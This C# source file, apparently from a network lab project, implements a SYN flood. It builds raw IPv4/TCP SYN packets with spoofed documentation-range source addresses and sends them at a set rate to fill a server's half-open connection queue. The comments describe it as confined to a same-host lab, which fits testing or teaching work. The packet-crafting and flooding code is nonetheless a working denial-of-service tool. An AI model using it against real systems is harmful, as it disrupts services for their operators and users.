using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using Demarc.Wire;

namespace Demarc.Lab.Servers;

/// <summary>
/// SYNs from addresses that nobody has (RFC 5737), to a server of the same machine: its list of half-open connections
/// fills and stays full. Twenty a second do for a short list; nothing leaves the host but the answers nobody waits for.
/// </summary>
public sealed class SynFlood : IDisposable
{
    private const int PacketLength = 44;
    private const int IpLength = 20;
    private readonly CancellationTokenSource _end = new();
    private readonly Socket _socket;

    private SynFlood(Socket socket) => _socket = socket;

    /// <summary>Starts it in the server's own place; needs the right to make raw sockets there.</summary>
    /// <exception cref="SocketException">It may not.</exception>
    public static SynFlood Start(IPEndPoint target, double perSecond, IPlace place, TimeProvider clock)
    {
        var socket = place.Inside(() =>
        {
            var raw = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.Raw);
            raw.SetSocketOption(SocketOptionLevel.IP, SocketOptionName.HeaderIncluded, true);
            return raw;
        });
        var flood = new SynFlood(socket);
        _ = flood.RunAsync(target, TimeSpan.FromSeconds(1 / Math.Clamp(perSecond, 0.1, 1000)), clock);
        return flood;
    }

    public void Dispose()
    {
        _end.Cancel();
        _socket.Dispose();
    }

    /// <summary>One SYN; the number decides its source.</summary>
    public static byte[] Packet(IPEndPoint target, int number)
    {
        var packet = new byte[PacketLength];
        packet[0] = 0x45;
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), PacketLength);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), (ushort)(number * 7));
        packet[8] = 64;
        packet[9] = 6;
        byte[] source = [192, 0, 2, (byte)(1 + (number % 250))];
        source.CopyTo(packet, 12);
        target.Address.GetAddressBytes().CopyTo(packet, 16);
        BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(10), Checksum.Of(packet.AsSpan(0, IpLength)));
        var tcp = packet.AsSpan(IpLength);
        BinaryPrimitives.WriteUInt16BigEndian(tcp, (ushort)(1024 + (number % 60_000)));
        BinaryPrimitives.WriteUInt16BigEndian(tcp[2..], (ushort)target.Port);
        BinaryPrimitives.WriteUInt32BigEndian(tcp[4..], (uint)number * 2654435761);
        tcp[12] = 0x60;
        tcp[13] = 0x02;
        BinaryPrimitives.WriteUInt16BigEndian(tcp[14..], 64_240);
        (tcp[20], tcp[21]) = (2, 4);
        BinaryPrimitives.WriteUInt16BigEndian(tcp[22..], 1460);
        BinaryPrimitives.WriteUInt16BigEndian(tcp[16..], Checksum.Of(tcp, Checksum.PseudoHeader(source, target.Address.GetAddressBytes(), 6, tcp.Length)));
        return packet;
    }

    private async Task RunAsync(IPEndPoint target, TimeSpan pause, TimeProvider clock)
    {
        const int first = 64;
        try
        {
            // Full from the start, then kept so.
            var number = 0;
            while (number < first) await _socket.SendToAsync(Packet(target, number++), SocketFlags.None, target, _end.Token).ConfigureAwait(false);
            while (true)
            {
                await Task.Delay(pause, clock, _end.Token).ConfigureAwait(false);
                await _socket.SendToAsync(Packet(target, number++ & 0xffffff), SocketFlags.None, target, _end.Token).ConfigureAwait(false);
            }
        }
        catch (Exception over) when (over is OperationCanceledException or ObjectDisposedException or SocketException)
        {
            // The lab ends.
        }
    }
}
